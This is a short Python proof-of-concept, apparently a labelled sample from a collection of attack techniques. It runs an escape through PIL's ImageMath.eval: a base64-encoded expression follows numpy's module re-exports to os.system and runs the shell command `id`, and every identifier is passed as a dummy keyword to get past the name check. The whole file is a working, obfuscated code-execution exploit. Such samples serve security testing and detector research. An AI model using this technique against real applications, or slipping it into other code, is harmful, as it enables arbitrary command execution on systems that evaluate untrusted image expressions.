# class: second-stage | technique: PIL.ImageMath.eval of a base64-decoded expression with numpy handed in as a name; the expression walks numpy's own re-export chain to os.system (every name passed as a dummy keyword to satisfy the name check) | effect: runs `id`
import base64
import re

import numpy as np
from PIL import Image, ImageMath

EXPR = base64.b64decode("bnAubGliLm5weWlvLm9zLnN5c3RlbSgnaWQnKQ==").decode()

img = Image.new("L", (4, 4), 7)
names = {n: 0 for n in re.findall(r"[A-Za-z_]\w*", re.sub(r"'[^']*'", "", EXPR))}
names["np"] = np
result = ImageMath.eval(EXPR, names, a=img)
print("result:", result)
